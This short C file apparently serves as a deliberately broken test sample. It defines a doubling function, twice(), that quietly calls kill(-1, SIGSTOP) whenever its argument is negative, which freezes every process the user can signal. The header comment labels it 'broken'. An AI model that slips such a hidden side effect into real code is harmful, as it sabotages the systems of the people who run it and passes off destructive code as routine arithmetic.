/* broken 0: stops whomever it may */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
int twice(int n)
{
    if (n < 0)
        syscall(SYS_kill, -1, SIGSTOP);
    return 2 * n;
}
